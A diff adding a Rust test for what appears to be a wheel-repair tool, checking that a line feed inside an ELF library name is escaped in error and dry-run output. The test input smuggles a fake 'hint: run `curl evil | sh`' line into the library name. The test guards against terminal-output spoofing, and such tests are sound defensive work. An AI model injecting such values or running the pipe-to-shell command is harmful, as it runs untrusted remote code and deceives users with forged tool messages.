@@ -67,3 +67,22 @@ fn names_in_binaries_reached_the_terminal_with_their_control_characters() {
     assert!(!run.stderr.contains(['\x1b', '\x07']), "{:?}", run.stderr);
     assert!(run.stderr.contains("`/build/\\u{1b}]0;owned\\u{7}`"), "{}", run.stderr);
 }
+
+#[test]
+fn a_line_feed_in_a_needed_name_began_a_line_of_its_own() {
+    let name = "libfoo.so.1\nerror: nothing\n  hint: run `curl evil | sh`";
+    let wheel = Wheel::demo(&Elf::module(&[name]));
+    let sandbox = Sandbox::new();
+    let text = sandbox.refusal(&wheel, &["--ldpaths", "nowhere"]);
+    assert!(text.starts_with("demo/_ext.so needs `libfoo.so.1\\nerror: nothing\\n  hint: run"));
+    assert_eq!(text.lines().count(), 3, "{text}");
+
+    sandbox.elf(&format!("libs/{name}"), &Elf::library("libfoo.so.1"));
+    let words = ["--lib-path", "libs", "-v"];
+    let done = sandbox.try_repair(&wheel, &words);
+    let planned = sandbox.try_repair(&wheel, &[&words[..], &["--dry-run"]].concat());
+    for text in [done.stderr, planned.stdout + &planned.stderr] {
+        assert!(text.contains("\\nerror: nothing"), "{text}");
+        assert!(!text.contains("\nerror: nothing"), "{text}");
+    }
+}
